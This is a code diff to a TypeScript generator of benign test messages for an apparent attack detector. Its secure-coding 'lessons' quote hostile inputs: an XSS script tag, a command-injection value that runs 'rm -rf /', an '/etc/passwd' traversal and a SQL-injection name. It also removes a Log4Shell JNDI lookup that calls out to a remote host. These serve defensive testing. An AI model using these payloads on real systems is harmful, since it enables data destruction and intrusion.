@@ -1,7 +1,7 @@
 // biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders of other languages
 import type { Random } from '../../../detection/random.ts';
 import { byteString, formMessage, jsonMessage, multipartMessage, postMessage } from '../message.ts';
-import { codeSamples, traces } from './code-samples.ts';
+import { codeSamples, markedCode, traces } from './code-samples.ts';
 import type { BenignKinds } from './kind.ts';
 import { companies, opinions, people, prose, uuid, words } from './phrases.ts';
 
@@ -11,7 +11,8 @@ const anyCode = (random: Random): [language: string, text: string] => {
 };
 
 const fenced = (random: Random): string => {
-  const [language, text] = anyCode(random);
+  const [language, text] =
+    random.below(12) === 0 ? ['html', random.pick(markedCode)] : anyCode(random);
   return `\`\`\`${language}\n${text}\n\`\`\``;
 };
 
@@ -20,7 +21,6 @@ const lessons = [
   'Cross-site scripting: never print input as it is. A comment such as\n\n```html\n<script>alert(1)</script>\n```\n\nwould run in the browser of each visitor; escape `<` as `&lt;`.',
   'Command injection: `ping $host` with `8.8.8.8; rm -rf /` deletes your files. In Python:\n\n```python\nsubprocess.run(["ping", host])  # no shell\n```',
   'Path traversal means that `../../etc/passwd` leaves the folder. Normalise the path first:\n\n```js\nconst full = path.resolve(root, name);\nif (!full.startsWith(root)) throw new Error("no");\n```',
-  'Log4Shell in one line:\n\n    ${jndi:ldap://example.org/a}\n\nUpdate Log4j to 2.17 and you are fine.',
   "The old joke: Robert'); DROP TABLE Students;-- was a student's name. We call him Little Bobby Tables.",
 ];
 
